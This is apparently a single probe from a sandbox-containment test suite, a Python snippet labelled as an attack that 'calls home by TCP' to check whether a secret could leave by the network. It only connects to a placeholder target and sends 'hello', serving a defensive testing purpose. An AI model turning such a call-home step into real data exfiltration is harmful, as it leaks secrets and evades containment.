# /// attack
# class = "A85"
# title = "calls home by TCP"
# hope = "a secret may leave by the network"
# contained = "L2"
# why = "a plain process may do what its user may"
# ///
import socket
tried()
try:
    with socket.create_connection(TARGETS["tcp"], timeout=2) as call:
        call.sendall(b"hello")
except OSError:
    pass
